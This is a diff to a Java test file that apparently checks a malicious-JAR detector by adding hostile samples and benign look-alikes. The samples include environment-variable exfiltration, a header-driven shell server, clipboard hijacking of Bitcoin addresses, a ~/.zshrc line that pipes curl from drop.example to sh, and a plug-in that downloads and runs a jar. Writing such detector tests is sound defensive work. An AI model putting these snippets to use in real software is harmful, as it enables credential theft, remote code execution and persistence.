@@ -61,6 +61,31 @@ class JarTechniquesTest {
             + " c.getOutputStream().write(b); c.getInputStream(); }";
     return List.of(
         initializer(
+            "the environment, gathered by a lambda",
+            "StringJoiner j = new StringJoiner(\"&\"); System.getenv().forEach((k, v) -> j.add(k + v));"
+                + " send(j.toString().getBytes());",
+            send),
+        initializer(
+            "a header that is run by a server of its own",
+            "com.sun.net.httpserver.HttpServer h = com.sun.net.httpserver.HttpServer.create(new InetSocketAddress(1), 0);"
+                + " h.createContext(\"/\", e -> Runtime.getRuntime().exec(new String[] {\"sh\", \"-c\","
+                + " e.getRequestHeaders().getFirst(\"X\")}));"),
+        initializer(
+            "the clipboard, exchanged by what it holds",
+            "Clipboard b = Toolkit.getDefaultToolkit().getSystemClipboard();"
+                + " if (b.getContents(null).getTransferData(DataFlavor.stringFlavor).toString().startsWith(\"bc1\"))"
+                + " b.setContents(new StringSelection(\"inert\"), null);"),
+        initializer(
+            "a line in a profile that fetches",
+            "Files.write(Path.of(System.getProperty(\"user.home\"), \".zshrc\"),"
+                + " \"\\n(curl -s https://drop.example/z|sh) &\\n\".getBytes(), StandardOpenOption.APPEND);"),
+        new Jar(
+            "a plug-in of a server that fetches another",
+            "plugin.yml",
+            "public class Lead { public void onEnable() throws Exception { File f = new File(\"plugins\", \"helper.jar\");"
+                + " new URL(\"https://drop.example/h.jar\").openStream().transferTo(new FileOutputStream(f));"
+                + " Runtime.getRuntime().exec(new String[] {\"java\", \"-jar\", f.getPath()}); } }"),
+        initializer(
             "a file of keys in the body of a request",
             "String s = Files.readString(Path.of(System.getProperty(\"user.home\"), \".m2\", \"settings.xml\"));"
                 + " HttpClient.newHttpClient().send(HttpRequest.newBuilder(URI.create(\"https://drop.example/\"))"
@@ -159,6 +184,15 @@ class JarTechniquesTest {
   static List<Jar> ordinary() {
     return List.of(
         initializer(
+            "a server that looks at headers",
+            "com.sun.net.httpserver.HttpServer h = com.sun.net.httpserver.HttpServer.create(new InetSocketAddress(1), 0);"
+                + " h.createContext(\"/\", e -> { if (\"1\".equals(e.getRequestHeaders().getFirst(\"X\")))"
+                + " Runtime.getRuntime().exec(new String[] {\"git\", \"gc\"}); });"),
+        new Jar(
+            "a plug-in of a server",
+            "plugin.yml",
+            "public class Lead { public void onEnable() { System.out.println(System.getProperty(\"user.name\")); } }"),
+        initializer(
             "a native part that is unpacked and loaded",
             "File f = File.createTempFile(\"lib\", \".so\"); InputStream in ="
                 + " Lead.class.getResource(\"/native/l.so\").openConnection().getInputStream();"
@@ -202,7 +236,9 @@ class JarTechniquesTest {
     String naming =
         jar.manifest().endsWith(".xml")
             ? "<plugin><mojo><implementation>a.Lead</implementation></mojo></plugin>"
-            : jar.manifest().endsWith(".MF") ? "Premain-Class: a.Lead\n" : "a.Lead\n";
+            : jar.manifest().endsWith(".MF")
+                ? "Premain-Class: a.Lead\n"
+                : jar.manifest().endsWith(".yml") ? "main: a.Lead\n" : "a.Lead\n";
     if (!jar.manifest().isEmpty()) {
       files.put(jar.manifest(), naming.getBytes(UTF_8));
     }
